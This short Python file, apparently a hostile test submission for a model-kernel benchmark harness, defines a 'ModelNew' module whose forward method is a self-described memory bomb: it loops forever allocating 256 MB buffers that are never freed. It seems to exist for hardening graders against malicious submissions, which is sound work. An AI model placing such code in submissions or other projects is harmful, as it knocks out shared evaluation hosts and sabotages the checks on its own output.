"""Exploit: a host-memory bomb inside forward (256 MB at a time, touched, never freed)."""

import torch.nn as nn

_hoard = []


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        while True:
            _hoard.append(bytearray(256 << 20))
